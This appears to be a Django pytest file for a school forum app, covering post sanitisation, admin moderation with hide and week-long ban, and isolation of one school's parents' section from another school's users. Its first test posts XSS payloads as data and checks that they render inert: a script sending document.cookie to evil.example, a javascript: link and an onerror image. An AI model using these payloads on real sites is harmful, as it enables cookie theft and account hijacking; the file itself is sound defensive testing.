"""Issue 16's "Done when", the forum's lines, as a new user would try them:

- a forum post with script payloads and ``javascript:`` links renders inert;
- ``school1.admin`` hides a post and bans its author for a week, and the author cannot
  post there (tests/forum/test_moderation.py has the whole flow; tests/browser/
  test_forum_phone.py does it on a phone);
- ``school2.parent`` cannot open a school 1 parents' section by URL, search or feed.
"""

import pytest
from django.urls import reverse

from announcements.feeds import feed_token

from .test_safety import assert_inert

pytestmark = pytest.mark.django_db


def test_a_post_with_script_payloads_and_javascript_links_renders_inert(client_for, lunch):
    text = ('<script>document.location="https://evil.example/?"+document.cookie</script>\n\n'
            "[Меню на неделю](javascript:alert(document.cookie))\n\n"
            "<img src=x onerror=alert(1)> [фото](data:image/svg+xml;base64,PHN2Zz4=)")
    client = client_for("school1.parent")
    response = client.post(reverse("forum:reply", args=[lunch.pk]), {"text": text})
    assert response.status_code == 302
    page = client.get(response["Location"]).content.decode()
    newest = page.rsplit('data-body>', 1)[1].split("</div>", 1)[0]
    assert_inert(newest)
    assert "&lt;script&gt;" in newest and "javascript:" in newest  # shown as text


def test_the_admin_hides_a_post_and_bans_its_author_for_a_week(client_for, lunch, user):
    post = lunch.posts.filter(author__username="school1.parent").first()
    admin = client_for("school1.admin")
    admin.post(reverse("forum:post_hide", args=[post.pk]), {"reason": "Не по теме"})
    admin.post(reverse("forum:post_ban", args=[post.pk]), {"days": "7", "reason": "Спам"})
    parent = client_for("school1.parent")
    response = parent.post(reverse("forum:reply", args=[lunch.pk]), {"text": "Ещё"})
    assert response.status_code == 403
    assert "Спам" in response.content.decode()


def test_school2_parent_cannot_open_school1_parents_section(client_for, user, sections, lunch):
    parents = sections["parents1"]
    client = client_for("school2.parent")
    for url in (parents.get_absolute_url(), lunch.get_absolute_url(),
                reverse("forum:post", args=[lunch.posts.first().pk]),
                reverse("forum:topic_new", args=[parents.pk]),
                reverse("forum:feed", args=[parents.pk]),
                reverse("forum:personal_feed",
                        args=[feed_token(user("school2.parent")), parents.pk])):
        assert client.get(url).status_code == 404, url
    results = client.get(reverse("search"), {"q": "столовой каша"}).context["results"]
    counts = {kind.key: kind.count for kind in results.kinds}
    assert counts["forum_topics"] == counts["forum_posts"] == 0
    listed = client.get(reverse("forum:index")).context["groups"]
    assert parents not in [row for group in listed for row in group["sections"]]
